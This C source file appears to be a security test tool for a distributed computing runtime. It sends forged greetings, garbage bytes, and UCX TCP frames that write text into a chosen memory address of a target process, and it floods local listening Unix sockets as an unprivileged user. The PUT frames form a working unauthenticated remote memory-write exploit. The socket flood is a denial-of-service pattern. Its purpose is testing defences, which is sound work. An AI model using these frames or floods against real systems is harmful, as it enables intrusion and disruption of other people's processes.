/*
 * attack.c - what a stranger sends to a port of a rank.
 *
 *     attack hello HEX_IP:HEX_PORT             as a rank of another job says hello on a line, or of
 *                                              this one in an earlier run; prints the answer
 *     attack garbage HEX_IP:HEX_PORT           random bytes, with nothing in front
 *     attack put HEX_IP:HEX_PORT HEX_ADDRESS   a connection as UCX's TCP transport makes it, and a
 *                                              PUT of a text to an address of that process
 *
 *     attack strangers STOP   another user (65534, where this one is root) connects to all local
 *                             sockets of this network namespace that listen, over and over, until
 *                             the file STOP is there; prints a line for each name, and fails if one
 *                             of them sent a byte, or let a connection be for a second
 *
 * Addresses stand as in /proc/net/tcp. Exit code 3: nobody listens there.
 *
 * The frames are those of UCX 1.13 (src/uct/tcp/tcp.h): a magic number, a request to connect, and a
 * PUT that nobody asks the sender's right to.
 */
#include <errno.h>
#include <netinet/in.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define MAGIC UINT64_C(0xcafebabe12345678)
#define AM_CONNECT 32 /* UCT_AM_ID_MAX */
#define AM_PUT 33
#define EVENT_CONNECT 1u
#define TEXT "a stranger was here"

static uint8_t frame[512];
static size_t used;

static void add(const void *data, size_t bytes)
{
    memcpy(frame + used, data, bytes);
    used += bytes;
}

static void add_head(uint8_t id, uint32_t bytes)
{
    add(&id, sizeof(id));
    add(&bytes, sizeof(bytes));
}

static void add_connect(void)
{
    const struct sockaddr_in self = {
        .sin_family = AF_INET, .sin_port = htons(4242), .sin_addr.s_addr = htonl(0x0a010203)};
    const uint64_t magic = MAGIC, number = 0;
    const uint32_t event = EVENT_CONNECT;
    const uint8_t flags = 0;

    add(&magic, sizeof(magic));
    add_head(AM_CONNECT, sizeof(event) + sizeof(flags) + sizeof(number) + sizeof(self));
    add(&event, sizeof(event));
    add(&flags, sizeof(flags));
    add(&number, sizeof(number));
    add(&self, sizeof(self));
}

static void add_put(uint64_t address)
{
    const uint64_t bytes = sizeof(TEXT);
    const uint32_t number = 1;

    add_head(AM_PUT, sizeof(address) + sizeof(bytes) + sizeof(number));
    add(&address, sizeof(address));
    add(&bytes, sizeof(bytes));
    add(&number, sizeof(number));
    add(TEXT, sizeof(TEXT));
}

/* runtime/transport/line_hello.h: magic, version, world, rank 1, a challenge and a proof. */
static void add_hello(void)
{
    const uint8_t head[] = {'D', 'P', 'L', 'N', 1, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8, 1, 0, 0, 0};

    add(head, sizeof(head));
    used += 64;
}

/* Prints what comes behind the greeting of 40 bytes, until the other end closes. */
static void print_answer(int fd)
{
    char answer[128] = "";
    size_t have = 0;
    ssize_t got;

    puts("said hello");
    fflush(stdout);
    while (have < sizeof(answer) - 1 &&
           (got = recv(fd, answer + have, sizeof(answer) - 1 - have, 0)) > 0)
        have += (size_t)got;
    puts(have > 40 ? answer + 40 : "nothing");
}

static int reach(const char *where)
{
    struct sockaddr_in to = {.sin_family = AF_INET};
    unsigned ip, port;
    const int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

    if (fd < 0 || sscanf(where, "%8x:%4x", &ip, &port) != 2) exit(2);
    to.sin_addr.s_addr = ip;
    to.sin_port = htons((uint16_t)port);
    if (connect(fd, (const struct sockaddr *)&to, sizeof(to)) != 0) exit(3);
    return fd;
}

/* ---- Strangers of this machine -------------------------------------------------------------- */

#define NAMES 64
#define HELD 1500 /* connections of one name: more than its queue takes */
#define BURST 200

typedef struct held {
    int fd;
    time_t since;
} held_t;

typedef struct listener {
    char name[108]; /* as the kernel prints it: '@' for a NUL */
    int type;
    held_t held[HELD];
    int count, next;
    unsigned long made, got, let_be;
} listener_t;

static listener_t *all[NAMES];
static int names;

static time_t seconds(void)
{
    struct timespec now;

    clock_gettime(CLOCK_MONOTONIC, &now);
    return now.tv_sec;
}

static void look_at_held(listener_t *listener, held_t *held, int is_last)
{
    char data[256];
    const ssize_t bytes = recv(held->fd, data, sizeof(data), MSG_DONTWAIT);

    if (bytes > 0) listener->got += (unsigned long)bytes;
    /* In the queue of a process that is busy it may lie for long; it counts if it was taken. */
    if (is_last && bytes < 0 && errno == EAGAIN && seconds() > held->since + 1) listener->let_be++;
    close(held->fd);
}

static void connect_some(listener_t *listener)
{
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    const size_t length = strlen(listener->name);

    memcpy(to.sun_path + 1, listener->name + 1, length - 1);
    for (int i = 0; i < BURST; i++) {
        const int fd = socket(AF_UNIX, listener->type | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
        held_t *place = &listener->held[listener->next];

        if (fd < 0) return;
        if (connect(fd, (struct sockaddr *)&to,
                    (socklen_t)(offsetof(struct sockaddr_un, sun_path) + length)) != 0) {
            close(fd);
            return;
        }
        listener->made++;
        if (listener->count == HELD) look_at_held(listener, place, 0);
        if (listener->count < HELD) listener->count++;
        *place = (held_t){fd, seconds()};
        listener->next = (listener->next + 1) % HELD;
    }
}

static listener_t *find_listener(const char *name, int type)
{
    for (int i = 0; i < names; i++) {
        if (strcmp(all[i]->name, name) == 0) return all[i];
    }
    if (names == NAMES || (all[names] = calloc(1, sizeof(*all[0]))) == NULL) return NULL;
    snprintf(all[names]->name, sizeof(all[0]->name), "%s", name);
    all[names]->type = type;
    return all[names++];
}

static void connect_to_all(void)
{
    FILE *file = fopen("/proc/net/unix", "re");
    char line[512];

    while (file != NULL && fgets(line, sizeof(line), file) != NULL) {
        const char *name = strchr(line, '@');
        unsigned flags, type;
        listener_t *listener;

        if (name == NULL || sscanf(line, "%*s %*s %*s %x %x", &flags, &type) != 2) continue;
        if (flags != 0x10000) continue; /* it does not listen */
        line[strcspn(line, "\n")] = '\0';
        listener = find_listener(name, (int)type);
        if (listener != NULL) connect_some(listener);
    }
    if (file != NULL) fclose(file);
}

static int be_strangers(const char *stop)
{
    const struct rlimit files = {65536, 65536};
    int is_bad = 0;

    (void)setrlimit(RLIMIT_NOFILE, &files);
    if (geteuid() == 0 && (setgid(65534) != 0 || setuid(65534) != 0)) return 2;
    puts("flowing");
    fflush(stdout);
    while (access(stop, F_OK) != 0)
        connect_to_all();
    for (int i = 0; i < names; i++) {
        for (int k = 0; k < all[i]->count; k++)
            look_at_held(all[i], &all[i]->held[k], 1);
        printf("%.12s %lu connections, %lu bytes, %lu let be\n", all[i]->name, all[i]->made,
               all[i]->got, all[i]->let_be);
        is_bad |= all[i]->got > 0 || all[i]->let_be > 0;
    }
    return is_bad;
}

int main(int argc, char **argv)
{
    int fd;

    if (argc < 3) return 2;
    if (strcmp(argv[1], "strangers") == 0) return be_strangers(argv[2]);
    fd = reach(argv[2]);
    if (strcmp(argv[1], "garbage") == 0) {
        srand(1);
        while (used < sizeof(frame))
            frame[used++] = (uint8_t)rand();
    } else if (strcmp(argv[1], "hello") == 0) {
        add_hello();
    } else if (argc > 3) {
        add_connect();
        add_put(strtoull(argv[3], NULL, 16));
    }
    if (send(fd, frame, used, MSG_NOSIGNAL) != (ssize_t)used) return 1;
    if (strcmp(argv[1], "hello") == 0) print_answer(fd);
    usleep(200000); /* a process that looks now and then has looked */
    close(fd);
    return 0;
}
